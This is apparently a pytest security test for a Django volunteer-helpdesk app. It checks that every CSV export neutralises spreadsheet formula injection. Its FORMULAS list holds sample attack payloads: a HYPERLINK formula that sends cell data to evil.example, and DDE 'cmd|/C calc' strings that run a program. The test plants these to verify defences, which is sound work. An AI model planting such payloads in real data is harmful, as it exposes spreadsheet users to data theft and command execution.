"""Formula injection in exports: every text a person can set (names, districts, task texts,
notes, addresses) is filled with spreadsheet formulas, every page and every link on it is
opened, and every CSV file found is read cell by cell: no cell may start as a formula."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.db import models
from django.test import Client
from django.utils import timezone

from helpdesk.models import HelpRequest
from matching.models import Capacity, Offer, Volunteer
from matching.volunteer_csv import volunteers_check
from places.models import District
from tests.factories import (
    district_make,
    helprequest_make,
    organisation_make,
    resident_make,
    volunteer_make,
)

from .urlwalk import routes

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HREF = re.compile(r'href="(/[^"#]*)"')


def formulas_everywhere(*instances: models.Model) -> None:
    """Every free-text column of each row (no choices) set to a formula,
    distinct per row so unique columns stay unique."""
    for n, instance in enumerate(instances):
        values = {}
        for field in instance._meta.concrete_fields:
            # Exactly these types: phone numbers and sets of codes are checked on input.
            if type(field) not in (models.CharField, models.TextField) or field.choices:
                continue
            text = FORMULAS[n % len(FORMULAS)] + f" {n}"
            values[field.attname] = text[: field.max_length] if field.max_length else text
        type(instance).objects.filter(pk=instance.pk).update(**values)


@pytest.fixture
def world():
    district = district_make()
    organisation = organisation_make()
    organisation.districts.add(district)
    volunteers = [
        volunteer_make(organisation=organisation, district=district) for _ in range(len(FORMULAS))
    ]
    resident = resident_make(district=district)
    request = helprequest_make(resident=resident)
    HelpRequest.objects.filter(pk=request.pk).update(
        status=HelpRequest.Status.ASSIGNED, assigned_volunteer=volunteers[0]
    )
    Offer.objects.create(
        request=request,
        volunteer=volunteers[0],
        wave=1,
        code=request.code,
        status=Offer.Status.ACCEPTED,
        expires_at=timezone.now() + timedelta(minutes=20),
    )
    capacity = Capacity.objects.create(organisation=organisation, kind="groceries", per_week=5)
    formulas_everywhere(district, organisation, *volunteers, resident, request, capacity)
    return {"organisation": organisation, "request": request, "resident": resident}


def csv_exports(client: Client, world: dict) -> dict[str, str]:
    """Every text/csv answer reachable from the URL conf: each route opened, and each link on
    the pages it shows followed once."""
    ids = {
        "partner_": world["organisation"].pk,
        "privacy_": world["resident"].pk,
    }
    seen, found, pages = set(), {}, []
    for route in routes():
        if route.is_signed_webhook:
            continue
        pk = next((v for k, v in ids.items() if route.name.startswith(k)), world["request"].pk)
        values = {name: pk if conv == "int" else "x" for conv, name in route.params}
        pages.append(route.fill(values))
    while pages:
        path = pages.pop()
        if path in seen or "/logout" in path:
            continue
        seen.add(path)
        response = client.get(path)
        kind = response.get("Content-Type", "")
        if response.status_code != 200:
            continue
        if kind.startswith("text/csv"):
            found[path] = response.content.decode("utf-8-sig")
        elif "html" in kind:
            pages += [href.replace("&amp;", "&") for href in HREF.findall(response.text)]
    return found


def test_no_exported_cell_starts_as_a_formula(world):
    client = Client()
    client.force_login(User.objects.create_superuser("root", password="correct-horse-battery"))
    exports = csv_exports(client, world)
    # The volunteer list and every table of the needs report.
    assert any("volunteers" in path for path in exports), exports.keys()
    assert sum("needs" in path for path in exports) >= 7, exports.keys()
    neutralised = 0
    for path, text in exports.items():
        for line, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=";")):
            for cell in row:
                assert not cell.startswith(FORMULA_START), f"{path} line {line + 1}: {cell!r}"
                neutralised += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
    # The formulas did reach the files (as text), so the walk above read what it should.
    assert neutralised >= len(FORMULAS) * 2


def test_an_exported_volunteer_list_imports_as_what_it_holds(world):
    """The quote the export adds is ours: reading the file back gives the names it holds."""
    organisation = world["organisation"]
    client = Client()
    client.force_login(User.objects.create_superuser("root", password="correct-horse-battery"))
    volunteers = Volunteer.objects.filter(organisation=organisation)
    before = sorted((v.first_name.strip(), v.last_name.strip(), str(v.phone)) for v in volunteers)
    body = client.get(f"/partners/{organisation.pk}/volunteers.csv").content
    assert body.count(b"'+46") == len(before)
    HelpRequest.objects.all().delete()  # the task they hold, so they can be removed
    volunteers.delete()
    report = volunteers_check(body)
    assert all(row.ok for row in report.rows), [row.errors for row in report.rows]
    after = sorted(
        (r.values["first_name"], r.values["last_name"], r.values["phone"]) for r in report.rows
    )
    assert after == before
    assert {r.values["district"] for r in report.rows} == {District.objects.get()}
